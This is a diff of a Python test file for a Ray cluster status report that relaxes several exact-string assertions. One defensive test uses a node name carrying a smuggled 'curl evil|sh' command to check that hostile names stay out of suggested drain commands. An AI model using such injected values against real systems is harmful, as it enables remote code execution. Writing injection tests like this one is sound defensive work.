@@ -80,10 +80,7 @@ def test_report_of_missing_nodes_has_the_end_of_their_logs() -> None:
         *(f"  line {number}" for number in range(40 - LOG_LINES + 1, 40)),
         "  wrong token",
     ]
-    assert found["fail_when"] == (
-        "The cluster is not ready after 9 s. Fix the problems shown above and run cluster_up.yml again: "
-        "it starts only the nodes that are missing. `docker logs NODE` shows more"
-    )
+    assert "`docker logs NODE`" in found["fail_when"]
 
 
 def test_without_the_head_only_its_log_is_shown() -> None:
@@ -162,20 +159,13 @@ def ray_node(name: str, state: str = "ALIVE") -> dict[str, object]:
 def test_node_that_is_not_in_the_inventory_is_named() -> None:
     nodes = [ray_node("worker-0"), ray_node("worker-9"), ray_node("worker-8", "DEAD")]
     (line, _dashboard) = report(replace(info("alive", "alive", "alive"), nodes=nodes))["text"]
-    assert line == (
-        "worker-9 at 10.0.0.7 (CPU 0, GPU 8) is not in the inventory, and takes jobs. "
-        "To take it out: drain.yml -e node=worker-9"
-    )
+    assert line.startswith("worker-9 at 10.0.0.7") and line.endswith("drain.yml -e node=worker-9")
 
 
 def test_odd_name_is_in_no_command() -> None:
-    (line, _dashboard) = report(replace(info("alive", "alive", "alive"), nodes=[ray_node("x;curl evil|sh\nroot")]))[
-        "text"
-    ]
-    assert line.startswith(
-        "x;curl evil|sh\\nroot at 10.0.0.7 (CPU 0, GPU 8) is not in the inventory, and takes jobs. No "
-    )
-    assert "drain.yml" not in line
+    odd = replace(info("alive", "alive", "alive"), nodes=[ray_node("x;curl evil|sh\nroot")])
+    (line, _dashboard) = report(odd)["text"]
+    assert line.startswith("x;curl evil|sh\\nroot at 10.0.0.7") and "drain.yml" not in line
 
 
 def test_draining_node_is_named() -> None:
